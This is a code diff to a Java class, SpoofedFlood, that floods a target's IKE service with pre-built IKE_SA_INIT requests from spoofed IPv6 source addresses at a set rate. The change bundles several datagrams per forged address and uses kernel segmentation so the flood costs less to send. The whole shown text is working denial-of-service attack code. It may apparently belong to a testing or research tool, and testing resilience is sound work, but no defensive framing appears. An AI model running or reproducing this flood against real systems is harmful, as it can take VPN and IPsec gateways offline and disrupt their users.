@@ -15,20 +15,26 @@ import java.util.concurrent.Executors;
 import java.util.concurrent.ScheduledExecutorService;
 import java.util.concurrent.ScheduledFuture;
 import java.util.concurrent.TimeUnit;
+import java.util.stream.Stream;
 
 /**
- * IKE_SA_INIT requests, each from another address of a network that is nobody's, at a rate, for
- * some time. They are made beforehand, so that to send them costs little.
+ * IKE_SA_INIT requests from addresses of a network that is nobody's, a few from each, at a rate,
+ * for some time. They are made beforehand, and the kernel tells them apart, so that to send them
+ * costs little.
  */
 final class SpoofedFlood implements AutoCloseable {
 
     private static final int MADE = 1024;
+
+    /** Datagrams of one address, one behind the other. */
+    private static final int TOGETHER = 10;
+
     private static final int BURSTS_PER_SECOND = 1000;
 
     private final UdpSocket socket;
     private final Ipv6Prefix sources;
     private final Ipv6Address target;
-    private final List<Bytes> requests = new ArrayList<>();
+    private final List<Bytes> bundles = new ArrayList<>();
     private final int burst;
     private final long most;
     private final long longest;
@@ -45,11 +51,18 @@ final class SpoofedFlood implements AutoCloseable {
             Ipv6Prefix sources,
             Ipv6Address target,
             int rate,
-            int seconds) {
+            int seconds)
+            throws LinuxException {
         EphemeralKey key = KeyExchangeGroup.CURVE25519.generate(maker.random());
+        int length = maker.init(maker.initPayloads(key)).encode().length();
         for (int i = 0; i < MADE; i++) {
-            requests.add(maker.init(maker.initPayloads(key)).encode());
+            bundles.add(
+                    Bytes.concat(
+                            Stream.generate(() -> maker.init(maker.initPayloads(key)).encode())
+                                    .limit(TOGETHER)
+                                    .toArray(Bytes[]::new)));
         }
+        socket.segments(length);
         this.socket = socket;
         this.sources = sources;
         this.target = target;
@@ -88,18 +101,18 @@ final class SpoofedFlood implements AutoCloseable {
         if (isOver()) {
             return;
         }
-        for (int i = 0; i < burst && count < most; i++) {
+        for (int i = 0; i < burst && count < most; i += TOGETHER) {
             try {
                 socket.send(
                         new Ipv6Address(sources.address().high() | count & 0xffff, count + 1),
                         0,
                         target,
                         Attacker.PORT,
-                        requests.get((int) (count % MADE)));
+                        bundles.get((int) (count / TOGETHER % MADE)));
             } catch (LinuxException full) {
                 // the next one, then
             }
-            count++;
+            count += TOGETHER;
         }
         sent = count;
         ended = System.nanoTime();
